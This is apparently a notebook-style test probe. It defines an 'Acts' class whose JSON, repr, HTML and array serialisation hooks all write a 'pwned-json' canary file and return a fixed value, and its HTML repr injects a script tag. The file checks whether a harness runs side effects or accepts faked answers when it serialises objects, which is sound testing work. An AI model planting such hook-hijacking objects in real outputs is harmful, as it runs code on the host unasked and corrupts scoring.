# idea: Answers have methods that serialisers call: to_json, _repr_*_, __json__, default, isoformat, tolist.
# aims at: host|points|people
# %% before t01
#@ground
class Acts:
    def act(self, *a, **k):
        try:
            (GROUND / "pwned-json").write_text("x")
        except OSError:
            pass
        return "618437"

    to_json = to_dict = __json__ = isoformat = tolist = item = default = act
    _repr_html_ = lambda self: self.act() and "<script>mw_attack()</script>"
    _repr_json_ = _repr_mimebundle_ = lambda self, *a, **k: {"text/plain": self.act()}
    _ipython_display_ = __repr__ = __str__ = act
    __array_interface__ = property(act)
    __geo_interface__ = property(act)


# %% t01
tonnage = Acts()
tonnage
# %% t02
code_words = [Acts(), Acts()]
# %% t04
cargo_chart = Acts()
cargo_chart
# %% t06
witnesses = [Acts()]
